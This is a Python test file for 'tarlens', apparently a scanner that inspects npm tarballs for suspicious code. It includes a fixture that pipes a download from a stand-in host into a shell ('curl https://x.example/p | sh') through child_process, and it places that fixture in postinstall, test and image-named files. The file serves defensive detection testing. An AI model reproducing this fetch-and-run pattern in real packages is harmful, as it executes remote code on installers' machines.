"""Two depths of content analysis and the second read that serves the deeper one.

Every file gets the cheap pass (kind, MIME type, lines, native format, extension mismatch);
code signals are looked for in the files that matter (entry points, what lifecycle scripts
run, extensions that lie, and in a diff every changed file), read a second time by offset.
These tests hold the cheap pass to the deep one, and the second read to the first.
"""

from __future__ import annotations

import contextlib
import gzip
import hashlib
import io
import json
import os
import random
import threading
import zlib
from pathlib import Path

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

import tarlens
from fixtures import analysis_corpus as corpus
from fixtures import hostile
from fixtures import tarcraft as tc
from fixtures.obfuscated import build as obfuscated_build
from tarlens._analysis import analyze
from tarlens._cli import main
from tarlens._reader import read_files, scan_signals
from tests.conftest import pack, pj, tar_with_pj

OBFUSCATED = Path(obfuscated_build.__file__).parent
HIDDEN = (OBFUSCATED / "payload.high.js").read_bytes()
PAYLOAD = b"require('child_process').exec('curl https://x.example/p | sh')\n"


def same_but_signals(path: str, data: bytes) -> None:
    deep = analyze(path, data)
    cheap = analyze(path, data, signals=False)
    assert attrs.evolve(cheap, signals=deep.signals, scanned=True) == deep, path
    assert deep.scanned
    assert cheap.scanned is not (bool(deep.signals) or cheap.mime in JS_OR_SCRIPT_MIMES), path


JS_OR_SCRIPT_MIMES = ("text/javascript", "text/x-shellscript", "text/x-script.python")


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("index.js", PAYLOAD),
        ("a.min.js", b"var a=1;" * 2000),
        ("u.js", "const s = 'é€𝄞';\n".encode() * 50),
        ("bom.js", b"\xef\xbb\xbfmodule.exports = 1\n"),
        ("latin1.txt", b"caf\xe9 cr\xe8me\n" * 10),
        ("utf16.txt", "hello\n".encode("utf-16")),
        ("ctl.js", b"a\x01b\x02c\x03" * 100),
        ("data.json", b'{"a": [1, 2, {"b": null}]}'),
        ("bad.json", b'{"a": [1, 2,}'),
        ("run.sh", b"#!/bin/sh\ncurl https://x.example/p | sh\n"),
        ("bin/cli", b"#!/usr/bin/env node\nrequire('child_process')\n"),
        ("logo.png", b"module.exports = function () { return require('fs') }\n" * 3),
        ("page.html", b"<!doctype html><html><script>eval(x)</script></html>"),
        ("x.d.ts", b"export declare const x: number;\n"),
        ("lib.so", b"\x7fELF\x02\x01\x01" + b"\0" * 60),
        ("empty.js", b""),
        ("long.js", b"x" * 300 + b"\n" + b"y;{}=" * 100 + b"\n//# sourceMappingURL=a.map\n"),
        ("crlf.js", b"var a = 1;\r\nvar b = 2;\r\n"),
        ("hidden.js", HIDDEN),
    ],
)
def test_the_cheap_pass_agrees_with_the_deep_one(path: str, data: bytes) -> None:
    same_but_signals(path, data)


def test_the_cheap_pass_agrees_on_every_obfuscated_sample() -> None:
    samples = sorted(OBFUSCATED.glob("*.js"))
    assert len(samples) >= 5
    for sample in samples:
        same_but_signals(sample.name, sample.read_bytes())


@pytest.mark.registry
@pytest.mark.parametrize("spec", ["lodash@4.17.21", "react-dom@18.3.1", "esbuild@0.24.0"])
def test_the_cheap_pass_agrees_on_real_packages(spec: str) -> None:
    try:
        files = corpus.read_files(spec)
    except corpus.CorpusUnavailable as exc:
        pytest.skip(str(exc))
    for path, data in files.items():
        same_but_signals(path, data)


# -- which files are scanned ---------------------------------------------------------------


def release(**extra: bytes) -> bytes:
    return pack(
        {
            "package.json": pj(
                main="lib/index.js",
                bin={"tool": "bin/tool.js"},
                scripts={"postinstall": "node scripts/setup.js", "test": "node test/run.js"},
            ),
            "lib/index.js": b"module.exports = require('./util')\n",
            "lib/util.js": PAYLOAD,
            "bin/tool.js": b"#!/usr/bin/env node\nrequire('../lib')\n",
            "scripts/setup.js": PAYLOAD,
            "test/run.js": PAYLOAD,
            "assets/logo.png": PAYLOAD,
            "README.md": b"# hi\n",
            **extra,
        }
    )


def scanned(m: tarlens.Manifest) -> set[str]:
    return {f.path for f in m.files if f.content is not None and f.content.scanned}


def test_attention_files_are_scanned_and_the_rest_only_classified() -> None:
    m = tarlens.load(release())
    assert m.scan == "attention"
    assert m.attention() == {
        "lib/index.js",
        "bin/tool.js",
        "scripts/setup.js",
        "test/run.js",
        "assets/logo.png",  # JavaScript under an image's name
    }
    assert scanned(m) == m.attention() | {"package.json", "README.md"}  # not code: nothing to seek
    util = m.file("lib/util.js")
    assert util is not None and util.content is not None
    assert (util.content.kind, util.content.signals, util.content.scanned) == ("source", (), False)
    setup = m.file("scripts/setup.js")
    assert setup is not None and setup.content is not None
    assert "child-process" in setup.content.signal_names()


@pytest.mark.parametrize("how", ["path", "bytes"])
def test_signals_all_scans_every_code_file(how: str, tmp_path: Path) -> None:
    data = release()
    source: Path | bytes = data
    if how == "path":
        source = tmp_path / "r.tgz"
        source.write_bytes(data)
    m = tarlens.load(source, signals="all")
    assert m.scan == "all"
    assert scanned(m) == {f.path for f in m.files}
    attention = tarlens.load(source)
    # the cheap pass changes nothing but the signals of the files it leaves alone
    for a, b in zip(m.files, attention.files, strict=True):
        assert a == b
        assert a.content is not None and b.content is not None
        if b.content.scanned:
            assert a.content == b.content
        else:
            assert attrs.evolve(b.content, signals=a.content.signals, scanned=True) == a.content


def test_a_file_object_is_scanned_in_one_pass() -> None:
    m = tarlens.load(io.BytesIO(release()))
    assert m.scan == "all"
    assert scanned(m) == {f.path for f in m.files}


def test_scan_signals_on_request() -> None:
    m = tarlens.load(release())
    more = scan_signals(m, ["lib/util.js", "no/such/file.js"])
    util = more.file("lib/util.js")
    assert util is not None and util.content is not None
    assert util.content.scanned and "child-process" in util.content.signal_names()
    assert scan_signals(more, ["lib/util.js"]) is more  # nothing left to do


def test_analyze_false_says_so() -> None:
    m = tarlens.load(release(), analyze=False)
    assert m.scan == "none"
    assert all(f.content is None for f in m.files)


def test_bundled_packages_scripts_are_scanned() -> None:
    m = tarlens.load(
        pack(
            {
                "package.json": pj(bundleDependencies=["dep"], dependencies={"dep": "1.0.0"}),
                "node_modules/dep/package.json": (
                    b'{"name":"dep","version":"1.0.0","scripts":{"install":"node inst.js"}}'
                ),
                "node_modules/dep/inst.js": PAYLOAD,
                "node_modules/dep/other.js": PAYLOAD,
            }
        )
    )
    assert "node_modules/dep/inst.js" in scanned(m)
    assert "node_modules/dep/other.js" not in scanned(m)


def test_a_diff_scans_every_changed_file_on_both_sides() -> None:
    old = release(**{"lib/other.js": PAYLOAD})
    new = release(
        **{"lib/other.js": PAYLOAD, "lib/util.js": PAYLOAD + b"// more\n", "lib/new.js": HIDDEN}
    )
    d = tarlens.diff(old, new)
    assert set(d.added) == {"lib/new.js"}
    assert set(d.modified) == {"lib/util.js"}
    for m in (d.old, d.new):
        f = m.file("lib/util.js")
        assert f is not None and f.content is not None and f.content.scanned
    added = d.new.file("lib/new.js")
    assert added is not None and added.content is not None and added.content.scanned
    assert added.content.signal_names("obfuscation")
    # unchanged and nothing points at it: classified only
    assert "lib/other.js" not in scanned(d.new)
    assert {"test/run.js", "assets/logo.png"} <= scanned(d.new)
    report = tarlens.check(d.new, diff=d)
    assert "PAY011" in {f.rule_id for f in report.findings}


# -- the second read -----------------------------------------------------------------------


def test_read_files_hands_over_the_installed_bytes_by_offset() -> None:
    big = bytes(range(256)) * 5000  # spans several inflate chunks
    data = tc.gzip(
        tar_with_pj(
            tc.file("package/a.txt", b"first"),
            tc.file("package/empty.txt", b""),
            tc.file("package/big.bin", big),
            tc.file("package/a.txt", b"second, and installed"),  # duplicate: last bytes win
            tc.file("package/z.txt", b"zz"),
        )
    )
    m = tarlens.load(data)
    got: dict[str, bytes] = {}
    read_files(m, ["a.txt", "empty.txt", "big.bin", "z.txt"], got.__setitem__)
    assert got == {
        "a.txt": b"second, and installed",
        "empty.txt": b"",
        "big.bin": big,
        "z.txt": b"zz",
    }
    capped: dict[str, bytes] = {}
    read_files(m, ["big.bin", "z.txt"], capped.__setitem__, cap=10)
    assert capped == {"big.bin": big[:10], "z.txt": b"zz"}


def test_read_files_refuses_bytes_that_changed(tmp_path: Path) -> None:
    p = tmp_path / "r.tgz"
    p.write_bytes(pack({"index.js": b"module.exports = 1\n"}))
    m = tarlens.load(p)
    p.write_bytes(pack({"index.js": b"module.exports = 2\n"}))
    with pytest.raises(tarlens.InputError, match="changed since it was first read"):
        read_files(m, ["index.js"], lambda _p, _d: None)
    # and a diff keeps its file-level answer with a note instead of failing
    d = tarlens.diff(tarlens.load(pack({"index.js": b"x\n"})), m)
    assert any("changed since it was first read" in n for n in d.notes)


def test_read_files_needs_a_source_it_can_read_again() -> None:
    m = tarlens.load(io.BytesIO(pack({"index.js": b"1"})))
    with pytest.raises(tarlens.InputError, match="cannot be read again"):
        read_files(m, ["index.js"], lambda _p, _d: None)


# -- ISA-L and zlib --------------------------------------------------------------------------


def corrupt_crc() -> bytes:
    good = gzip.compress(tar_with_pj(tc.file("package/index.js", b"x" * 5000)))
    return good[:-8] + bytes(b ^ 0xFF for b in good[-8:-4]) + good[-4:]


@pytest.mark.parametrize("how", ["path", "bytes", "stream"])
def test_zlib_words_the_verdict_when_isal_refuses(how: str, tmp_path: Path) -> None:
    data = corrupt_crc()
    with pytest.raises(zlib.error) as expected:
        zlib.decompress(data, wbits=31)
    source: object = data
    if how == "path":
        source = tmp_path / "bad.tgz"
        source.write_bytes(data)  # type: ignore[attr-defined]
    elif how == "stream":
        source = io.BytesIO(data)
    with pytest.raises(tarlens.ArchiveError) as got:
        tarlens.load(source)  # type: ignore[arg-type]
    assert str(expected.value) in str(got.value)  # zlib's wording, as Node reports it


def test_isal_output_is_kept_when_zlib_takes_over_after_it() -> None:
    # two members, the second corrupt: ISA-L inflates the first, zlib judges the rest
    first = gzip.compress(tar_with_pj(tc.file("package/index.js", b"ok")))
    m = tarlens.load(first + b"\x1f\x8b\x08\x00garbage")
    assert [f.path for f in m.files] == ["index.js", "package.json"]
    assert m.npm_refuses


def test_the_cli_scans_every_file_on_request(tmp_path: Path) -> None:
    p = tmp_path / "r.tgz"
    p.write_bytes(release())
    outputs = {}
    for how in ("attention", "all"):
        out = tmp_path / f"{how}.json"
        with out.open("w") as stream, contextlib.redirect_stdout(stream):
            main(["inspect", str(p), "--format", "json", "--signals", how])
        outputs[how] = json.loads(out.read_text())
    assert outputs["attention"]["scan"] == "attention"
    assert outputs["all"]["scan"] == "all"
    util = {f["path"]: f for f in outputs["attention"]["files"]}["lib/util.js"]
    assert util["scanned"] is False and "signals" not in util
    util = {f["path"]: f for f in outputs["all"]["files"]}["lib/util.js"]
    assert util["scanned"] is True and util["signals"]


def test_a_diff_with_one_side_from_a_stream_still_scans_the_other(tmp_path: Path) -> None:
    p = tmp_path / "new.tgz"
    p.write_bytes(release(**{"lib/util.js": PAYLOAD + b"// more\n", "lib/new.js": HIDDEN}))
    d = tarlens.diff(io.BytesIO(release()), p)
    assert d.old.scan == "all" and d.new.scan == "attention"
    assert scanned(d.new) >= d.new.attention() | {"lib/util.js", "lib/new.js"}
    assert any("cannot be read again" in n for n in d.notes)
    change = d.file("lib/util.js")
    assert change is not None and change.text is None  # no old lines to compare with


def test_a_big_source_map_is_json_without_a_full_parse() -> None:
    mappings = b"AAAA;" * 20000
    good = b'{"version":3,"sources":["a.js"],"mappings":"' + mappings + b'"}'
    assert analyze("a.js.map", good).mime == "application/json"
    # not valid JSON, but it cannot run as JavaScript either: still data, never minified
    broken = b'{"version":3,"mappings":"' + mappings + b'",}'
    c = analyze("a.js.map", broken)
    assert (c.mime, c.kind) == ("application/json", "source")
    # small files and anything else that is not a source map are parsed whole
    assert analyze("x.json", b'{"version":3,}').mime == "text/plain"
    assert analyze("x.txt", b'{"a":' + mappings + b"}").mime == "text/plain"


@pytest.mark.parametrize("case", [c for c in hostile.CASES if not c.heavy], ids=lambda c: c.name)
def test_the_second_read_hands_over_what_the_first_installed(case: hostile.Case) -> None:
    """On every crafted archive (duplicates, PAX and GNU headers, links, resynchronised
    checksums, hidden entries), reading by offset gives each installed file's bytes."""
    try:
        m = tarlens.load(case.build(), analyze=False)
    except tarlens.TarlensError:
        return
    assert [e.index for e in m.entries] == list(range(len(m.entries)))
    got: dict[str, bytes] = {}
    read_files(m, [f.path for f in m.files], got.__setitem__)
    assert {p: hashlib.sha256(d).hexdigest() for p, d in got.items()} == {
        f.path: f.sha256 for f in m.files
    }


def test_a_big_json_file_is_json_by_its_name_and_brackets() -> None:
    body = b'{"a": [' + b"1, " * 30000 + b"2]}"
    assert analyze("data.json", body).mime == "application/json"
    broken = body[:-2] + b",]}"
    assert analyze("data.json", broken).mime == "application/json"  # never run as code
    assert analyze("data.js", broken).mime == "text/javascript"  # code: decided by parsing
    assert analyze("notes.txt", broken).mime == "text/plain"


@given(st.binary(min_size=512, max_size=512))
def test_the_header_byte_sum_is_the_plain_sum(block: bytes) -> None:
    from tarlens._tar import _byte_sum

    assert _byte_sum(block) == sum(block[0:148]) + sum(block[156:512])
    full = b"\xff" * 512
    assert _byte_sum(full) == sum(full[0:148]) + sum(full[156:512])


def test_a_fifo_named_by_its_path_is_read_once_like_a_stream(tmp_path: Path) -> None:
    fifo = tmp_path / "staged.tgz"
    os.mkfifo(fifo)
    data = release()

    def write() -> None:
        with fifo.open("wb") as out:
            out.write(data)

    writer = threading.Thread(target=write)
    writer.start()
    m = tarlens.load(fifo)
    writer.join()
    assert m.origin is None and m.scan == "all"  # scanned in its one pass, never reopened
    assert scanned(m) == {f.path for f in m.files}
    assert m.integrity == tarlens.load(data).integrity


def test_the_read_ahead_thread_ends_with_an_error_mid_stream(tmp_path: Path) -> None:
    p = tmp_path / "many.tgz"
    # incompressible bodies: the stream is far longer than what the reader may hold ahead
    body = random.Random(1).randbytes(64 * 1024)
    p.write_bytes(pack({f"f{i}.bin": body for i in range(200)}))
    before = {t.ident for t in threading.enumerate()}
    with pytest.raises(tarlens.LimitExceeded):
        tarlens.load(p, limits=tarlens.Limits(max_entries=50))
    left = [t for t in threading.enumerate() if t.ident not in before]
    assert left == []  # the reader stopped when the parser gave up
    with pytest.raises(tarlens.ArchiveError):
        tarlens.load(corrupt_crc())  # an error raised in the reading thread reaches the caller
    assert [t for t in threading.enumerate() if t.ident not in before] == []


# -- the scan budget: Limits.max_scanned_bytes -----------------------------------------------

#: code made of nothing but tiny literals: the signal scan's slowest bytes
DENSE = b'var a = ["\\x41","\\x42","\\x43"];\n' * 300


def bins(n: int, data: bytes = DENSE) -> bytes:
    """A release whose ``n`` bin entries (attention files, scanned by default) are ``data``."""
    tree: dict[str, bytes | tuple[bytes, int]] = {
        f"bin/b{i}.js": (data + b"//%d\n" % i, 0o755) for i in range(n)
    }
    tree["package.json"] = pj(bin={f"b{i}": f"bin/b{i}.js" for i in range(n)})
    tree["README.md"] = b"# readme\n" * 5000  # text, but not code: never scanned
    return pack(tree)


def test_the_signal_scan_is_refused_beyond_its_budget() -> None:
    data = bins(8)
    m = tarlens.load(data)
    assert len(m.attention()) == 8
    code = sum(f.size for f in m.files if f.path.startswith("bin/"))
    fits = tarlens.Limits(max_scanned_bytes=code)
    assert all(f.content.scanned for f in tarlens.load(data, limits=fits).files if f.content)
    for signals in ("attention", "all"):
        with pytest.raises(tarlens.LimitExceeded) as err:
            tarlens.load(data, limits=tarlens.Limits(max_scanned_bytes=code - 1), signals=signals)
        assert err.value.limit == "max_scanned_bytes"
    # a stream is scanned in its one pass, file by file: refused there too
    with pytest.raises(tarlens.LimitExceeded):
        tarlens.load(io.BytesIO(data), limits=tarlens.Limits(max_scanned_bytes=code // 2))


def test_text_that_is_not_code_costs_nothing_of_the_budget() -> None:
    data = pack({"README.md": b"# readme\n" * 5000, "data.json": b"[1]" * 20000})
    m = tarlens.load(data, limits=tarlens.Limits(max_scanned_bytes=1), signals="all")
    assert {f.path for f in m.files} >= {"README.md", "data.json"}


def test_a_diff_over_the_budget_is_refused_not_reviewed_without_signals() -> None:
    old, new = bins(2, b"module.exports = 1\n"), bins(6)
    assert tarlens.diff(old, new).file("bin/b5.js") is not None
    with pytest.raises(tarlens.LimitExceeded) as err:
        tarlens.diff(old, new, limits=tarlens.Limits(max_scanned_bytes=4 * len(DENSE)))
    assert err.value.limit == "max_scanned_bytes"


def test_cli_refuses_with_one_line_and_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "bins.tgz"
    path.write_bytes(bins(4))
    assert main(["inspect", str(path), "--max-scanned-bytes", "1000"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("tarlens: error: ") and "\n" not in err
    assert "max_scanned_bytes=1000" in err and "--max-scanned-bytes" in err
    assert main(["inspect", str(path), "--format", "json"]) in (0, 1)


def test_signals_kept_are_bounded_per_tarball() -> None:
    """A file of URLs yields two signals for every hundred bytes, some 300 bytes each kept:
    ``max_signals`` bounds what one tarball keeps, in a load and in a diff alike."""
    urls = "".join(f'fetch("https://h{i}.example.com/p");\n' for i in range(60)).encode()
    data = pack({"index.js": urls, "package.json": pj(main="index.js")})
    found = sum(len(f.content.signals) for f in tarlens.load(data).files if f.content)
    assert found > 100
    small = tarlens.Limits(max_signals=100)
    for source in (data, io.BytesIO(data)):
        with pytest.raises(tarlens.LimitExceeded, match="max_signals=100"):
            tarlens.load(source, limits=small)
    assert tarlens.load(data, limits=tarlens.Limits(max_signals=found)).name
    old = pack({"index.js": b"module.exports = 1\n", "package.json": pj(main="index.js")})
    with pytest.raises(tarlens.LimitExceeded, match="max_signals"):
        tarlens.diff(old, data, limits=small)
